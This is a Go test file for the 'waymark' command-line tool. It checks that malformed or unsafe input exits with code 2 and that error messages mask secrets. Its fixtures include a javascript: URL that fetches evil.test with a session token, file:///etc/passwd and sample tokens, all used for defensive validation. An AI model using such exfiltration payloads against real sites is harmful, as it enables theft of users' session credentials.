package main

import (
	"bytes"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// TestBadInput checks that bad input exits 2 with a clear message on stderr (prefixed
// "waymark: "), prints nothing on stdout, and leaves the store as it was.
func TestBadInput(t *testing.T) {
	home := seeded(t)
	dir := t.TempDir()
	file := func(name, content string) string {
		p := dir + "/" + name
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	trace := func(startURL string) string {
		return strings.ReplaceAll(goodTrace, "https://docs.example.org/releases", startURL)
	}

	// A 50 MB trace, far over the 8 MiB limit: as a file and on standard input.
	big := dir + "/big.json"
	{
		f, err := os.Create(big)
		if err != nil {
			t.Fatal(err)
		}
		pad := bytes.Repeat([]byte(" "), 1<<20)
		f.WriteString(`{"task": "big", "start_url": "https://docs.example.org/", "steps": [`)
		for range 50 {
			f.Write(pad)
		}
		f.WriteString(`{"action": "navigate", "url": "https://docs.example.org/"}]}`)
		if err := f.Close(); err != nil {
			t.Fatal(err)
		}
	}

	save := func(traceFile string, extra ...string) []string {
		return append([]string{"save", "--url", testURL, "--trace", traceFile, "--json"}, extra...)
	}
	tests := []struct {
		name   string
		args   []string
		stdin  string // a file to read standard input from
		stderr []string
	}{
		{"invalid JSON", save(file("invalid.json", "this is not JSON")), "", []string{"invalid trace"}},
		{"truncated JSON", save(file("truncated.json", `{"task":`)), "", []string{"invalid trace"}},
		{"truncated JSON on stdin", save("-"), file("truncated-stdin.json", goodTrace[:len(goodTrace)/2]), []string{"invalid trace"}},
		{"missing start_url", save(file("no-start.json", strings.Replace(goodTrace, `"start_url": "https://docs.example.org/releases",`, "", 1))), "", []string{"start_url"}},
		{"key in other letter case", save(file("case.json", `{"task": "t", "start_url": "https://docs.example.org/", "steps": [{"Action": "click", "url": "https://docs.example.org/"}]}`)), "",
			[]string{"steps[0]", `keys are case-sensitive: write "action", not "Action"`}},
		{"key given twice", save(file("twice.json", `{"task": "a", "task": "b", "start_url": "https://docs.example.org/", "steps": [{"action": "click", "url": "https://docs.example.org/"}]}`)), "",
			[]string{"invalid trace", `key "task" given twice`}},
		{"step key given twice", []string{"step", "--session", "s", "--step", `{"action":"click","url":"https://docs.example.org/","target":{"selector":"#a","selector":"#b"}}`}, "",
			[]string{`step.target: key "selector" given twice`}},
		{"port 0", []string{"query", "--url", "https://a.example:0/p", "--intent", "x"}, "", []string{"--url", `port "0" out of range 1–65535`}},
		{"intent not UTF-8", []string{"query", "--url", testURL, "--intent", "a\xffb"}, "", []string{"query: --intent: not valid UTF-8"}},
		{"task not UTF-8", []string{"step", "--session", "s", "--task", "\xc3", "--step", `{"action":"click","url":"https://docs.example.org/"}`}, "", []string{"step: --task: not valid UTF-8"}},
		{"no steps", save(file("no-steps.json", `{"task": "t", "start_url": "https://docs.example.org/", "steps": []}`)), "", []string{"steps"}},
		{"javascript: URL", []string{"save", "--url", "javascript:alert(1)", "--trace", file("js.json", trace("javascript:alert(1)"))}, "", []string{"url"}},
		{"file: URL", []string{"save", "--url", "file:///etc/passwd", "--trace", file("file.json", trace("file:///etc/passwd"))}, "", []string{"url"}},
		{"invalid UTF-8", save(file("utf8.json", strings.Replace(goodTrace, "Find the latest", "Find the \xff\xfe latest", 1))), "", []string{"UTF-8"}},
		{"50 MB trace", save(big), "", []string{"8 MiB"}},
		{"50 MB trace on stdin", save("-"), big, []string{"8 MiB"}},
		{"unknown outcome", save(file("good.json", goodTrace), "--outcome", "maybe"), "", []string{"--outcome", "success or failure"}},
		{"missing --url", []string{"save", "--trace", file("good2.json", goodTrace)}, "", []string{"missing required flag --url"}},
		{"missing --trace", []string{"save", "--url", testURL}, "", []string{"missing required flag --trace"}},
		{"trace file absent", save(dir + "/absent.json"), "", []string{"absent.json"}},
		{"unknown flag", []string{"save", "--colour", "blue"}, "", []string{"-colour"}},
		{"empty --home", []string{"--home", "", "stats"}, "", []string{"--home", "empty"}},
		{"--home given twice", []string{"--home", t.TempDir(), "--home", t.TempDir(), "stats"}, "", []string{"flag --home given twice"}},
		{"--home given before and after the command", []string{"--home", t.TempDir(), "stats", "--home", t.TempDir()}, "", []string{"stats: flag --home given twice"}},
		{"--url given twice", []string{"save", "--url", testURL, "--url", "https://other.example/", "--trace", file("good3.json", goodTrace)}, "", []string{"flag --url given twice"}},
		{"--page-size given twice", []string{"list", "--page-size", "1", "--page-size=2"}, "", []string{"flag --page-size given twice"}},
		{"--json given twice", []string{"--json", "list", "--json"}, "", []string{"flag --json given twice"}},
		{"step --url not http(s)", []string{"step", "--session", "s", "--url", "ftp://x", "--step", `{"action":"click","url":"https://docs.example.org/"}`}, "", []string{"url", "ftp"}},
		{"serve --http port out of range", []string{"serve", "--http", "127.0.0.1:99999"}, "", []string{"--http", "99999"}},
		{"page-size 0", []string{"list", "--page-size", "0", "--json"}, "", []string{"--page-size", "1–100"}},
		{"page-size 1000", []string{"list", "--page-size", "1000", "--json"}, "", []string{"--page-size", "1–100"}},
		{"page 0", []string{"list", "--page", "0"}, "", []string{"--page"}},
		{"unknown kind", []string{"list", "--kind", "recipe"}, "", []string{"recipe"}},
		{"page-size not a number", []string{"list", "--page-size", "ten"}, "", []string{"flag --page-size"}},
		{"page-size in hex", []string{"list", "--page-size", "0x10"}, "", []string{"flag --page-size", "decimal"}},
		{"page-size out of range", []string{"list", "--page-size", "99999999999999999999"}, "", []string{"flag --page-size", "out of range"}},
		{"json not a boolean", []string{"list", "--json=maybe"}, "", []string{"flag --json"}},
		{"flag without its value", []string{"list", "--page"}, "", []string{"flag --page needs a value"}},
		{"serve --http empty", []string{"serve", "--http", ""}, "", []string{"--http"}},
		{"unknown task type", []string{"list", "--task-type", "bogus"}, "", []string{"--task-type: unknown task type \"bogus\"", "one of navigate"}},
		{"unknown friction class", []string{"pattern", "quirk", "--url", testURL, "--problem", "cookies", "--symptom", "x"}, "", []string{"--problem", "one of cookie_banner"}},
		{"learn steps not an array", []string{"pattern", "learn", "--url", testURL, "--name", "n", "--success-indicator", "x", "--steps", `{"steps": []}`}, "", []string{"expected an array"}},
		{"unknown subcommand", []string{"frobnicate"}, "", []string{`unknown command "frobnicate"`}},
		{"no subcommand", nil, "", []string{"no command"}},
		{"query without --url", []string{"query", "--intent", "x"}, "", []string{"missing required flag --url"}},
		{"step without --session", []string{"step", "--step", `{"action":"click","url":"https://docs.example.org/"}`}, "", []string{"--session"}},
		{"save --session empty", []string{"save", "--url", testURL, "--session", " ", "--trace", file("t.json", "{}")}, "", []string{"save: --session: empty"}},
		{"step with invalid JSON", []string{"step", "--session", "s1", "--step", "{not json"}, "", []string{"step"}},
		{"pattern without subcommand", []string{"pattern"}, "", []string{"missing subcommand"}},
		{"home not a folder", []string{"--home", file("plain", "x"), "stats"}, "", []string{"is not a folder"}},
		{"bench corpus not Mind2Web", []string{"bench", "recall", "--home", t.TempDir(), "--corpus", file("notes.md", "# notes\n")}, "", []string{"not a JSON array"}},
		{"bench websites none", []string{"bench", "recall", "--home", t.TempDir(), "--corpus", file("empty.json", "[]"), "--websites", "nosuchsite"}, "", []string{"no convertible task"}},
		{"snapshots without a session", []string{"query", "--url", testURL, "--snapshots"}, "", []string{"--snapshots: only with --session"}},
		{"query with a session id no session can have", []string{"query", "--url", testURL, "--session", "a\u202eb"}, "", []string{"--session", "bidirectional"}},
		{"step with a JWT for a session id", []string{"step", "--session", "eyJhbGciOiJIUzI1NiJ9.eyJzZXNzIjoiMSJ9.abcdefghijklmnop", "--step", `{"action":"click","url":"https://docs.example.org/"}`},
			"", []string{"--session", "holds a credential"}},
		{"step with a card number for a session id", []string{"step", "--session", "4539148803436467", "--step", `{"action":"click","url":"https://docs.example.org/"}`},
			"", []string{"--session", "holds what redaction masks"}},
		{"save with an e-mail for a session id", []string{"save", "--url", testURL, "--session", "leak@gmx.de"}, "", []string{"--session", "holds what redaction masks"}},
		{"save of a session with no steps", []string{"save", "--url", testURL, "--session", "fresh"}, "", []string{"--session: no steps recorded"}},
		{"learn with an unknown action", []string{"pattern", "learn", "--url", testURL, "--name", "n", "--success-indicator", "x", "--steps", `[{"action":"fly"}]`}, "", []string{`--steps: unknown action "fly" at index 0`}},
		{"pattern record of a success with an error", []string{"pattern", "record", "--url", testURL, "--pattern", "p", "--success", "--error", "hmm"}, "", []string{"--error: goes with a failure"}},
		{"pattern record without outcome", []string{"pattern", "record", "--url", testURL, "--pattern", "p"}, "", []string{"--success or --failure"}},
		{"pattern quirk unknown problem", []string{"pattern", "quirk", "--url", testURL, "--problem", "gremlins", "--symptom", "x"}, "", []string{"gremlins"}},
		{"forget without target", []string{"forget"}, "", []string{"--id or --site"}},
		{"restore without archive", []string{"restore"}, "", []string{"ARCHIVE"}},
		{"export without dir", []string{"export"}, "", []string{"DIR"}},
		{"export into a file", []string{"export", file("export-file", "x")}, "", []string{"is not a folder"}},
		{"stats with an argument", []string{"stats", "extra"}, "", []string{`unexpected argument "extra"`}},
		{"serve on a public address", []string{"serve", "--http", "0.0.0.0:8765"}, "", []string{"loopback"}},
		{"trace is a folder", save(dir), "", []string{"--trace", "is a folder"}},
		{"restore a folder", []string{"restore", dir}, "", []string{"archive"}},
		{"max-chars too small", []string{"query", "--url", testURL, "--max-chars", "10"}, "", []string{"--max-chars", "at least 300"}},
		{"ingest a missing path", []string{"ingest", dir + "/nothing-here"}, "", []string{"no such file or folder"}},
	}
	before := ok(t, nil, "--home", home, "stats", "--json")
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var stdin io.Reader
			if tt.stdin != "" {
				f, err := os.Open(tt.stdin)
				if err != nil {
					t.Fatal(err)
				}
				defer f.Close()
				stdin = f
			}
			args := tt.args
			if !slices.Contains(args, "--home") {
				args = append([]string{"--home", home}, args...) // the store checked unchanged below
			}
			r := run(t, stdin, args...)
			if r.code != 2 {
				t.Errorf("exit %d, want 2\nstderr: %s", r.code, r.stderr)
			}
			if !strings.HasPrefix(r.stderr, "waymark: ") && !strings.Contains(r.stderr, "\nwaymark: ") {
				t.Errorf("stderr lacks the 'waymark: ' prefix: %q", r.stderr)
			}
			for _, want := range tt.stderr {
				if !strings.Contains(r.stderr, want) {
					t.Errorf("stderr %q does not mention %q", r.stderr, want)
				}
			}
			if r.stdout != "" {
				t.Errorf("stdout not empty: %q", r.stdout)
			}
		})
	}
	if after := ok(t, nil, "--home", home, "stats", "--json"); after != before {
		t.Errorf("the store changed:\nbefore %s\nafter  %s", before, after)
	}
}

// TestBadInputHidesSecrets: an error that quotes bad input masks the secrets in it, as a
// save masks them in what it stores (SPEC §8): stderr often ends up in a log file.
func TestBadInputHidesSecrets(t *testing.T) {
	home := t.TempDir()
	const token = "ghp_abcdefghijklmnopqrstuvwxyz0123456789"
	trace := writeFile(t, "ftp.json", []byte(strings.ReplaceAll(goodTrace, "https://docs.example.org/releases",
		"ftp://docs.example.org/releases?token="+token)))
	for name, args := range map[string][]string{
		"start_url":     {"save", "--url", testURL, "--trace", trace},
		"mailto url":    {"query", "--url", "mailto:alice.smith@example.com"},
		"javascript":    {"query", "--url", `javascript:fetch("https://evil.test/?session=` + token + `")`},
		"step url":      {"step", "--session", "s1", "--step", `{"action":"click","url":"ftp://x.test/?api_key=` + token + `"}`},
		"outcome flag":  {"save", "--url", testURL, "--outcome", token, "--trace", trace},
		"kind flag":     {"list", "--kind", token},
		"unknown flag":  {"list", "--" + token},
		"unknown cmd":   {token},
		"forget id":     {"forget", "--id", token},
		"learned route": {"pattern", "learn", "--url", "file:///home/alice/?password=hunter2hunter2", "--name", "n", "--success-indicator", "#done", "--steps", `[{"action":"navigate","url":"https://x.test/"}]`},
	} {
		t.Run(name, func(t *testing.T) {
			r := run(t, nil, append([]string{"--home", home}, args...)...)
			if r.code != 2 {
				t.Fatalf("exit %d, want 2; stderr %q", r.code, r.stderr)
			}
			for _, secret := range []string{token, "alice.smith@example.com", "hunter2hunter2"} {
				if strings.Contains(r.stderr, secret) {
					t.Errorf("stderr repeats a secret: %q", r.stderr)
				}
			}
			if !strings.Contains(r.stderr, "{{") && !strings.Contains(r.stderr, "…") {
				t.Errorf("stderr shows no masked or elided value: %q", r.stderr)
			}
		})
	}
}

// TestNotADatabase: a home whose memory.db is no SQLite file fails with exit 1 and says
// once that the memory at that home could not be opened, and why.
func TestNotADatabase(t *testing.T) {
	home := t.TempDir()
	if err := os.WriteFile(filepath.Join(home, "memory.db"), []byte("not a database, just text\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	r := run(t, nil, "--home", home, "stats")
	if r.code != 1 {
		t.Fatalf("exit %d, want 1\nstderr: %s", r.code, r.stderr)
	}
	if !strings.Contains(r.stderr, "open memory at "+home+": open store: ") || strings.Count(r.stderr, "open memory") != 1 {
		t.Errorf("stderr %q: want the home and the store's error, \"open memory\" once", r.stderr)
	}
}
